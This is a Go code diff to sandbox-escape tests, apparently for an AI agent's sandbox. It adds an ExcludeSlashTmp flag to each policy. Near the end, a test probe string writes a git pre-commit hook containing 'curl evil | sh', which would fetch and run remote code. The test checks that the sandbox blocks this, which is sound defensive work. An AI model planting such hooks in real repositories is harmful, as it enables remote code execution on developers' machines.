@@ -35,9 +35,9 @@ const (
 )
 
 var (
-	readOnly       = protocol.SandboxPolicy{Mode: protocol.SandboxReadOnly}
-	workspaceWrite = protocol.SandboxPolicy{Mode: protocol.SandboxWorkspaceWrite}
-	fullAccess     = protocol.SandboxPolicy{Mode: protocol.SandboxDangerFullAccess}
+	readOnly       = protocol.SandboxPolicy{ExcludeSlashTmp: true, Mode: protocol.SandboxReadOnly}
+	workspaceWrite = protocol.SandboxPolicy{ExcludeSlashTmp: true, Mode: protocol.SandboxWorkspaceWrite}
+	fullAccess     = protocol.SandboxPolicy{ExcludeSlashTmp: true, Mode: protocol.SandboxDangerFullAccess}
 )
 
 // runProbe performs one attack from inside the sandbox and exits.
@@ -317,7 +317,7 @@ func TestEscapeNetwork(t *testing.T) {
 				}
 			}
 		}
-		open := protocol.SandboxPolicy{Mode: protocol.SandboxWorkspaceWrite, NetworkAccess: true}
+		open := protocol.SandboxPolicy{ExcludeSlashTmp: true, Mode: protocol.SandboxWorkspaceWrite, NetworkAccess: true}
 		if got := probe(t, open, work, attacks[0]); got != "ok" {
 			t.Errorf("network_access: udp: %s", got)
 		}
@@ -384,7 +384,7 @@ func TestEscapeProtectedDirectories(t *testing.T) {
 	if err := os.WriteFile(filepath.Join(extra, ".git"), []byte("gitdir: /x\n"), 0o644); err != nil {
 		t.Fatal(err)
 	}
-	policy := protocol.SandboxPolicy{Mode: protocol.SandboxWorkspaceWrite, WritableRoots: []string{extra}}
+	policy := protocol.SandboxPolicy{ExcludeSlashTmp: true, Mode: protocol.SandboxWorkspaceWrite, WritableRoots: []string{extra}}
 	for _, a := range []string{
 		"echo 'curl evil | sh' > .git/hooks/pre-commit",
 		"touch .git/config",
